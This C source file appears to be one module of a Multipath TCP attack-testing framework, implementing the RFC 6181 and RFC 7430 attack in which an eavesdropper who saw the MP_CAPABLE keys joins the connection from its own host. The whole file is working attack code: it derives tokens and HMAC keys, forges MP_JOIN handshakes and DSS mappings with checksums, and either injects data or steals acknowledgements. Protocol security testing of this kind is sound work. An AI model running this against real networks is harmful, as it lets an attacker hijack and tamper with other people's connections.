/* SPDX-License-Identifier: MIT */
/*
 * AT-05: who saw the MP_CAPABLE exchange joins the connection later, from a
 * host of its own. RFC 6181 section 6.2, RFC 7430 section 5.
 *
 * What it saw decides what it tries. Clear keys are used as RFC 8684 says, or
 * RFC 6824 where the version was 0.
 * Where only tokens were shown it joins all the same and proves possession of
 * the only secret-looking octets it has: the tokens.
 */
#include "atk_table.h"
#include "atk_tcp.h"
#include "mpx_auth.h"
#include "mpx_csum.h"
#include "mpx_seq.h"
#include "mpx_tcp.h"

#include <string.h>

enum {
    VICTIMS_MAX = 64,
    FIRST_PORT = 40000,
    SYN_TRIES = 4,
};
#define RETRY UINT64_C(1000000000) /* ns */

static const char *const keys_words[] = {"sniffed", "wrong", NULL};
static const char *const goal_words[] = {"steal", "inject", NULL};
enum { KEYS, GOAL, SIZE };
enum { WRONG = 1, INJECT = 1 };
static const struct atk_param params[] = {
    [KEYS] = {"keys", ATK_P_WORD, .words = keys_words},
    [GOAL] = {"goal", ATK_P_WORD, .words = goal_words},
    [SIZE] = {"size", ATK_P_SIZE, .initial = 64000, .min = 1,
              .max = 1000000000},
    {.name = NULL},
};

enum stage { UNSEEN, SEEN, JOINING, INSIDE, OUT };

struct victim {
    enum stage stage;
    uint8_t family;
    uint8_t client[16], server[16];
    uint16_t client_port, server_port;
    uint64_t id_client, id_server;
    uint8_t version, flags, id_len;

    const struct mpx_profile *profile;
    struct mpx_auth_key key;
    struct mpx_identity a, b; /* of client and server, as they would be */
    struct atk_tcp tcp;
    uint32_t nonce;
    unsigned tries;
    uint64_t dack;      /* we claim to have all below */
    bool know_next;     /* server's next expected DSN is known */
    uint64_t inject_at; /* DSN of our first octet */
};
struct state {
    struct victim v[VICTIMS_MAX];
    unsigned n;
};

/* ---- seeing ---- */

static void note_capable(struct state *st, const struct atk_sight *s,
                         const struct mpx_opt_capable *c, bool wrong)
{
    size_t alen = s->family == 4 ? 4 : 16;
    struct victim *v;

    for (unsigned i = 0; i < st->n; i++)
        if (st->v[i].client_port == s->sport &&
            !memcmp(st->v[i].client, s->src, alen))
            return;
    if (st->n == VICTIMS_MAX)
        return;
    v = &st->v[st->n++];
    v->stage = SEEN;
    v->family = s->family;
    memcpy(v->client, s->src, alen);
    memcpy(v->server, s->dst, alen);
    v->client_port = s->sport;
    v->server_port = s->dport;
    v->version = c->version;
    v->flags = c->flags;
    v->id_len = c->id_len;
    v->id_client = c->sender;
    v->id_server = c->receiver;
    if (wrong)
        v->id_client ^= 1;
}

static enum atk_verdict see(struct atk *a, void *state,
                            const struct atk_sight *s, uint64_t now)
{
    struct mpx_opt_walk w = mpx_opt_walk_of(s->opts, s->opts_len);
    struct mpx_opt o;
    const uint8_t *p;
    size_t len;

    (void)now;
    while (mpx_opt_walk_next(&w, &p, &len))
        if (p[0] == MPX_OPT_KIND &&
            mpx_opt_decode(&o, p, len, mpx_seg_kind_of(s->flags)) == MPX_OK &&
            o.subtype == MPX_SUB_CAPABLE && o.u.capable.has_receiver)
            note_capable(state, s, &o.u.capable, atk_param(a, KEYS) == WRONG);
    return ATK_PASS;
}

/* ---- joining ---- */

/* The MAC rules that go with the bits it saw, and a secret to try. */
static bool make_keys(struct victim *v)
{
    struct mpx_auth_public pub = {.neg = {0}};
    uint8_t secret[MPX_KEYS_LEN];
    size_t half = v->id_len == 4 ? 4 : 8;

    v->profile = mpx_profile_find(v->version == 0        ? "rfc6824"
                                  : v->flags & MPX_CAP_E ? "baerts"
                                  : v->flags & MPX_CAP_G ? "paasch"
                                                         : "rfc8684");
    for (size_t i = 0; i < half; i++) {
        secret[i] = (uint8_t)(v->id_client >> 8 * (half - 1 - i));
        secret[half + i] = (uint8_t)(v->id_server >> 8 * (half - 1 - i));
    }
    mpx_auth_identity(&v->a, v->profile, v->id_client, v->id_server);
    mpx_auth_identity(&v->b, v->profile, v->id_server, v->id_client);
    pub.token[MPX_ROLE_I] = v->a.token;
    pub.token[MPX_ROLE_R] = v->b.token;
    return mpx_auth_key_init(&v->key, v->profile, &pub, secret, 2 * half, 0) ==
           MPX_OK;
}

static void send_opt(struct atk *a, struct victim *v, uint8_t flags,
                     const struct mpx_opt *o, uint64_t now)
{
    uint8_t buf[MPX_TCP_OPT_MAX];
    size_t n = 0;

    if (mpx_opt_encode(o, buf, sizeof buf, &n) == MPX_OK)
        atk_tcp_send(&v->tcp, a, flags, NULL, buf, n, NULL, 0, now);
}

static void send_syn(struct atk *a, struct victim *v, uint64_t now)
{
    struct mpx_opt o = {.subtype = MPX_SUB_JOIN};

    o.u.join.form = MPX_JOIN_SYN;
    o.u.join.addr_id = 66;
    o.u.join.token = v->b.token;
    o.u.join.token_len = v->profile->token_len;
    o.u.join.nonce = v->nonce;
    send_opt(a, v, MPX_TCP_SYN, &o, now);
    atk_count_join(a);
    v->tries++;
}

static void begin(struct atk *a, struct victim *v, unsigned i, uint64_t now)
{
    const struct atk_config *cfg = atk_config(a);
    struct atk_flow f = {.family = v->family,
                         .local_port = (uint16_t)(FIRST_PORT + i),
                         .remote_port = v->server_port};
    bool v4 = v->family == 4;

    if (!make_keys(v)) {
        v->stage = OUT;
        return;
    }
    memcpy(f.local, v4 ? cfg->host4 : cfg->host6, v4 ? 4 : 16);
    memcpy(f.remote, v->server, sizeof f.remote);
    atk_tcp_open(&v->tcp, a, &f);
    atk_random(a, &v->nonce, sizeof v->nonce);
    v->dack = v->b.idsn + 1;
    v->stage = JOINING;
    send_syn(a, v, now);
}

static void act(struct atk *a, void *state, uint64_t now)
{
    struct state *st = state;

    for (unsigned i = 0; i < st->n; i++)
        if (st->v[i].stage == SEEN)
            begin(a, &st->v[i], i, now);
    atk_set_timer(a, now + RETRY);
}

static void send_proof(struct atk *a, struct victim *v,
                       const struct mpx_opt_join *sa, uint64_t now)
{
    struct mpx_join_bind bind = {.syn_id = 66,
                                 .sa_b2 =
                                     (uint8_t)(sa->key_id * 2 | sa->backup),
                                 .sa_id = sa->addr_id};
    struct mpx_opt o = {.subtype = MPX_SUB_JOIN};

    o.u.join.form = MPX_JOIN_ACK;
    mpx_auth_join(&v->key, MPX_ROLE_I, true, v->nonce, sa->nonce, &bind,
                  o.u.join.mac);
    send_opt(a, v, MPX_TCP_ACK, &o, now);
    v->stage = INSIDE;
}

/* ---- inside ---- */

static void send_ack(struct atk *a, struct victim *v, uint64_t now)
{
    struct mpx_opt o = {.subtype = MPX_SUB_DSS};

    o.u.dss.has_ack = o.u.dss.ack8 = true;
    o.u.dss.ack = v->dack;
    send_opt(a, v, MPX_TCP_ACK, &o, now);
}

static void send_chunk(struct atk *a, struct victim *v, uint64_t offset,
                       uint64_t now)
{
    uint64_t left = atk_param(a, SIZE) - offset;
    uint16_t len = left < ATK_TCP_MSS ? (uint16_t)left : ATK_TCP_MSS;
    uint8_t payload[ATK_TCP_MSS], buf[MPX_TCP_OPT_MAX];
    struct mpx_opt o = {.subtype = MPX_SUB_DSS};
    uint32_t seq = v->tcp.iss + 1 + (uint32_t)offset;
    size_t n = 0;

    atk_payload(a, offset, payload, len);
    o.u.dss.has_ack = o.u.dss.ack8 = o.u.dss.has_map = o.u.dss.dsn8 = true;
    o.u.dss.ack = v->dack;
    o.u.dss.dsn = v->inject_at + offset;
    o.u.dss.ssn = (uint32_t)offset + 1;
    o.u.dss.dll = len;
    o.u.dss.has_csum = v->flags & MPX_CAP_A;
    if (o.u.dss.has_csum)
        o.u.dss.csum = mpx_csum_dss(o.u.dss.dsn, o.u.dss.ssn, len,
                                    mpx_csum_add(0, payload, len));
    if (mpx_opt_encode(&o, buf, sizeof buf, &n) == MPX_OK)
        atk_tcp_send(&v->tcp, a, MPX_TCP_ACK | MPX_TCP_PSH, &seq, buf, n,
                     payload, len, now);
    if (mpx_seq_lt(v->tcp.snd_nxt, seq + len))
        v->tcp.snd_nxt = seq + len;
}

static void inject(struct atk *a, struct victim *v, bool again, uint64_t now)
{
    uint64_t acked = v->tcp.snd_una - (v->tcp.iss + 1);
    uint64_t sent = v->tcp.snd_nxt - (v->tcp.iss + 1);
    uint64_t window = (uint64_t)ATK_TCP_WINDOW * ATK_TCP_MSS;

    if (atk_param(a, GOAL) != INJECT || !v->know_next)
        return;
    for (uint64_t at = again ? acked : sent;
         at < atk_param(a, SIZE) && at < acked + window; at += ATK_TCP_MSS)
        send_chunk(a, v, at, now);
}

static void note_dss(struct victim *v, const struct mpx_opt_dss *d)
{
    uint64_t end = d->dsn8 ? d->dsn : mpx_dsn_expand(v->dack, (uint32_t)d->dsn);

    if (d->has_ack && !v->know_next) {
        v->inject_at =
            d->ack8 ? d->ack : mpx_dsn_expand(v->a.idsn + 1, (uint32_t)d->ack);
        v->know_next = true;
    }
    end += d->dll;
    if (d->has_map && mpx_dsn_lt(v->dack, end))
        v->dack = end; /* what it took, nobody else shall get */
}

static void on_segment(struct atk *a, struct victim *v, const uint8_t *hdr,
                       uint8_t hdr_len, size_t len, uint64_t now)
{
    struct mpx_opt_walk w =
        mpx_opt_walk_of(hdr + MPX_TCP_HDR_MIN, hdr_len - MPX_TCP_HDR_MIN);
    enum mpx_seg_kind kind = mpx_seg_kind_of(hdr[MPX_TCP_OFF_FLAGS]);
    struct mpx_opt o;
    const uint8_t *p;
    size_t olen;

    if (kind != MPX_SEG_SYNACK)
        atk_tcp_on_segment(&v->tcp, hdr, len);
    while (mpx_opt_walk_next(&w, &p, &olen)) {
        if (p[0] != MPX_OPT_KIND || mpx_opt_decode(&o, p, olen, kind))
            continue;
        if (o.subtype == MPX_SUB_DSS)
            note_dss(v, &o.u.dss);
        if (o.subtype == MPX_SUB_JOIN && kind == MPX_SEG_SYNACK &&
            atk_tcp_on_synack(&v->tcp, hdr))
            send_proof(a, v, &o.u.join, now);
    }
    if (len)
        send_ack(a, v, now);
    if (v->stage == INSIDE && kind == MPX_SEG_ACK)
        inject(a, v, false, now);
}

static void host(struct atk *a, void *state, const struct atk_flow *f,
                 const uint8_t *hdr, uint8_t hdr_len, const uint8_t *payload,
                 size_t len, uint64_t now)
{
    struct state *st = state;
    unsigned i = (unsigned)f->local_port - FIRST_PORT;

    (void)payload;
    if (f->local_port < FIRST_PORT || i >= st->n || st->v[i].stage < JOINING ||
        st->v[i].stage == OUT)
        return;
    if (hdr[MPX_TCP_OFF_FLAGS] & MPX_TCP_RST) {
        st->v[i].stage = OUT;
        return;
    }
    on_segment(a, &st->v[i], hdr, hdr_len, len, now);
}

static void timer(struct atk *a, void *state, uint64_t now)
{
    struct state *st = state;

    for (unsigned i = 0; i < st->n; i++) {
        struct victim *v = &st->v[i];

        if (v->stage == JOINING && v->tries < SYN_TRIES)
            send_syn(a, v, now);
        if (v->stage == INSIDE)
            inject(a, v, true, now);
    }
    atk_set_timer(a, now + RETRY);
}

static void end(void *state)
{
    struct state *st = state;

    for (unsigned i = 0; i < st->n; i++)
        atk_tcp_free(&st->v[i].tcp);
    mpx_wipe(st, sizeof *st);
}

const struct atk_ops atk_join_sniffed = {
    .name = "join-with-sniffed-keys",
    .id = "AT-05",
    .source = "RFC 6181 section 6.2; RFC 7430 section 5",
    .powers = ATK_READ | ATK_HOST,
    .params = params,
    .state_size = sizeof(struct state),
    .see = see,
    .act = act,
    .host = host,
    .timer = timer,
    .end = end,
};
